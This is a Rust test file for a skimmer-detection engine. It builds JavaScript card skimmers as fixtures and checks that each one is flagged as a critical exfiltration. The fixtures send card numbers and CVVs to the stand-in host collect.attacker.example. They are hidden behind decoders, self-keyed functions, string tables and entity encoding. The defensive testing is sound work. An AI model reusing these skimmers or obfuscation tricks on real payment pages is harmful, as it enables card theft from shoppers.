//! Habits of hand-written skimmer decoders and senders that the sandbox and the collector
//! must follow as a browser does (issue 11). Each fixture is written here from the public
//! description of the technique, wrapping a small card skimmer whose destination is
//! `collect.attacker.example`; the engine must report a critical exfiltration to it.
//!
//! - a decoder loop written for sloppy mode (`for (i = 0; …)` with `i` never declared), its
//!   output passed through `unescape` and run with `this['eval']`;
//! - a named IIFE whose decoder keys on its own source (`F.toString()`), so the sandbox must
//!   keep the function's name bound when it unwraps it;
//! - a string table decoded at start-up (`String.fromCharCode(…).split(",")`) read through an
//!   accessor that sums its arguments (`g(3, -1)`), the ATMZOW-style table;
//! - jQuery handed to a ready callback (`jQuery(function (q) { q.ajax(…) })`);
//! - a scheme chosen at run time (`h = "https://"; … && (h = "http://"); h + "host/p"`);
//! - a selector list whose one part selects every field (`"input, select, checkbox"`) and
//!   every element (`getElementsByTagName("*")`).

use skimscan::finding::Severity;
use skimscan::inventory::ScriptKind;
use skimscan::js::{AnalysisJob, Engine, HostPolicy, ScriptAnalysis};
use skimscan::rules::RuleSet;
use std::sync::Arc;

const HOST: &str = "collect.attacker.example";

fn analyse(code: &str) -> ScriptAnalysis {
    let engine = Engine::new(
        Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
        HostPolicy::default(),
    );
    let job = AnalysisJob {
        script_id: "habit.js".into(),
        kind: ScriptKind::External,
        code: code.into(),
        page_url: "https://shop.example/checkout".into(),
        page_host: Some("shop.example".into()),
        payment_page: true,
        line_offset: 1,
        column_offset: 1,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
    };
    engine.analyse_batch(vec![job]).pop().expect("one result")
}

fn assert_exfiltration(what: &str, code: &str) {
    let a = analyse(code);
    let found = a.findings.iter().any(|f| {
        f.rule == "payment-data-exfiltration"
            && f.severity == Severity::Critical
            && f.hosts.iter().any(|h| h == HOST)
    });
    assert!(
        found,
        "{what}: no critical exfiltration to {HOST}; findings: {:#?}; errors: {:?}",
        a.findings
            .iter()
            .map(|f| (&f.rule, &f.hosts, &f.evidence))
            .collect::<Vec<_>>(),
        a.errors
    );
}

/// The skimmer every encoded fixture hides: card number and CVV sent by XHR.
fn payload() -> String {
    format!(
        "var x=new XMLHttpRequest();x.open('POST','https://{HOST}/c');\
         x.send(document.getElementById('cc_number').value+'|'+document.getElementById('cvv').value);"
    )
}

/// A JavaScript double-quoted literal of `s`.
fn js_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            c if (c as u32) < 0x20 || (c as u32) > 0x7e => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[test]
fn sloppy_mode_shift_loop_through_unescape_and_this_eval() {
    // Shift every character down by 2, as the decoder adds 2 back.
    let enc: String = payload().chars().map(|c| char::from(c as u8 - 2)).collect();
    let code = format!(
        "var s={},o=\"\",run=\"\",n;n=s['length'];for(i=0;i<n;i++){{o+=String['fromCharCode'](s['charCodeAt'](i)+2)}}\
         run=this['unescape'](o);this['eval'](run);",
        js_str(&enc)
    );
    assert_exfiltration("sloppy-mode loop", &code);
}

#[test]
fn named_iife_keyed_on_its_own_source() {
    // The key is the first character of the function's own text ('f' of `function`).
    let key = b'f';
    let enc: Vec<String> = payload().bytes().map(|b| (b ^ key).to_string()).collect();
    let code = format!(
        "(function(){{(function SELF(){{var k=SELF.toString().charCodeAt(0),d=[{}],o='';\
         for(var j=0;j<d.length;j++)o+=String.fromCharCode(d[j]^k);Function(o)();}})()}})();",
        enc.join(",")
    );
    assert_exfiltration("self-keyed IIFE", &code);
}

#[test]
fn start_up_table_read_through_a_summing_accessor() {
    let words = [
        "open",
        "POST",
        "https://collect.attacker.example/c",
        "send",
        "getElementById",
        "cc_number",
        "value",
    ];
    let joined = words.join(",");
    // Hex codes XOR 7, decoded through `map` and `apply`: more than the evaluator folds.
    let codes: Vec<String> = joined.bytes().map(|b| format!("{:x}", b ^ 7)).collect();
    // Each accessor call sums to the word's index.
    let code = format!(
        "(function(){{var T=String.fromCharCode.apply(null,'{}'.split(' ').map(function(h){{return parseInt(h,16)^7}})).split(String.fromCharCode(44));\
         function g(){{var a=arguments,s=0,i;for(i=0;i<a.length;i++)s+=a[i];return T[s]}}\
         (function(){{var D=document;function go(){{var x=new XMLHttpRequest();\
         x[g(1,-1)](g(2,-1),g(4,-2));x[g(5,-2)](D[g(6,-2)](g(2,3))[g(9,-3)])}}\
         D.addEventListener('submit',go,false)}})()}})();",
        codes.join(" ")
    );
    assert_exfiltration("start-up table", &code);
}

#[test]
fn jquery_handed_to_the_ready_callback_sends() {
    let code = format!(
        "jQuery(function(q){{q(document).on('change','form',function(){{\
         var card=q('#cc_number').val();\
         q.ajax({{url:'https://{HOST}/p',type:'POST',data:{{c:card}}}})}})}});"
    );
    assert_exfiltration("jQuery ready parameter", &code);
}

#[test]
fn scheme_chosen_at_run_time_keeps_the_host() {
    let code = format!(
        "function send(){{var d=document.getElementById('cc_number').value;var h='https://';\
         'https:'!=window.location.protocol&&(h='http://');\
         var x=new XMLHttpRequest();x.open('POST',h+'{HOST}/p');x.send(d)}}\
         document.addEventListener('submit',send);"
    );
    assert_exfiltration("scheme variable", &code);
    let code = format!(
        "function send(){{var d=document.getElementById('cc_number').value;\
         navigator.sendBeacon(location.protocol+'//{HOST}/p',d)}}\
         document.addEventListener('submit',send);"
    );
    assert_exfiltration("location.protocol", &code);
}

#[test]
fn selector_list_and_star_harvest_every_field() {
    let code = format!(
        "document.addEventListener('change',function(){{var a='',c=document.querySelectorAll('input, select, textarea, checkbox');\
         for(var i=0;i<c.length;i++)a+=c[i].name+'='+c[i].value+'&';\
         navigator.sendBeacon('https://{HOST}/h',a)}});"
    );
    assert_exfiltration("selector list", &code);
    let code = format!(
        "document.addEventListener('change',function(){{var a='',c=document.getElementsByTagName('*');\
         for(var i=0;i<c.length;i++)if(c[i].value)a+=c[i].name+'='+c[i].value+'&';\
         navigator.sendBeacon('https://{HOST}/h',a)}});"
    );
    assert_exfiltration("every element", &code);
}

#[test]
fn entity_url_read_through_computed_jquery_methods() {
    // `.html(x).text()` reached through a string table, the URL hidden as entities.
    let entities: String = format!("//{HOST}/e")
        .chars()
        .map(|c| format!("&#x{:X};", c as u32))
        .collect();
    let code = format!(
        "var t=['html','text','<div />','#cc_number','val'];\
         (function($){{$(function(q){{q('form').on('submit',function(){{\
         var x=new XMLHttpRequest();x.open('POST',q(t[2])[t[0]]('{entities}')[t[1]](),true);\
         x.send(q(t[3])[t[4]]())}})}})}})(jQuery);"
    );
    assert_exfiltration("entity chain", &code);
}

#[test]
fn request_method_in_a_reused_local_name_still_opens() {
    // Obfuscators reuse a handful of names in every function: `m` is a function in one
    // place and the HTTP method in another, so it is no script-wide constant.
    let code = format!(
        "var m=function(a){{return a*2}};\
         function send(){{var m='post',d=document.getElementById('cc_number').value,\
         x=new XMLHttpRequest();x.open(m,'https://{HOST}/o',true);x.send(d)}}\
         document.addEventListener('submit',send);"
    );
    assert_exfiltration("reused method name", &code);
}

#[test]
fn destination_built_step_by_step_in_a_local() {
    // The URL grows over several statements and reads its own "/" back (`u[6]`); the
    // name `u` is also another function's number, as obfuscators reuse names.
    let host_codes: Vec<String> = HOST.bytes().map(|b| b.to_string()).collect();
    let code = format!(
        "var D=document,F='',H='';\
         function grab(){{var u=0,k=D.getElementsByTagName('input'),i;F='';\
         for(i=0;i<k.length;i++){{F+='&'+k[i].name+'='+k[i].value;H=k[i].value}}ship()}}\
         function ship(){{var u='https://',S=String;u+=S.fromCharCode({})+u[6];u+='i';\
         var s=D.createElement('script');s.src=u+'?d='+F+'&c='+H;D.head.appendChild(s)}}\
         D.addEventListener('change',grab);",
        host_codes.join(",")
    );
    assert_exfiltration("step-by-step URL", &code);
}

#[test]
fn decoder_keyed_on_its_own_script_text() {
    // The key is the length of the script's last line, read back through the page's
    // `<script>` element, so an edited copy decodes to garbage.
    let last_line = "//end-of-loader-0123";
    let key = last_line.len() as u8;
    let words = format!("getElementById|cc_number|value|https://{HOST}/k|sendBeacon");
    let hex: String = words.bytes().map(|b| format!("{:02x}", b ^ key)).collect();
    let code = format!(
        "(function(){{function D(s){{var t=document.getElementsByTagName('script');\
         var l=t[t.length-1].innerHTML.split('\\n');var k=l[l.length-1].length,o='';\
         for(var i=0;i<s.length;i+=2)o+=String.fromCharCode(parseInt(s.substr(i,2),16)^k);return o}}\
         var T=D('{hex}').split('|');\
         (function(){{document.addEventListener('submit',function(){{\
         navigator[T[4]](T[3],document[T[0]](T[1])[T[2]])}})}})()}})();\n{last_line}"
    );
    assert_exfiltration("self-keyed decoder", &code);
}

#[test]
fn decoder_indices_parked_in_locals_jscrambler_style() {
    // `function d(){}` gets its decoder as a property; every call site first parks the
    // index in a local, directly or through an identity function.
    let words = [
        "sendBeacon",
        &format!("https://{HOST}/j"),
        "getElementById",
        "cc_number",
        "value",
    ];
    let table: Vec<String> = words
        .iter()
        .map(|w| w.bytes().map(|b| format!("%{b:02X}")).collect::<String>())
        .collect();
    let code = format!(
        "function d(){{}}d.k=function(y){{return y;}};\
         d.t=(function(){{var a='{}'.split(',');return function(i){{return decodeURIComponent(a[i]);}};}})();\
         function go(){{var i,j,m,n,p;i=0;j=d.k(1);m=2;n=d.k(3);p=4;\
         navigator[d.t(i)](d.t(j),document[d.t(m)](d.t(n))[d.t(p)]);}}\
         document.addEventListener('submit',go);",
        table.join(",")
    );
    assert_exfiltration("JScrambler locals", &code);
}
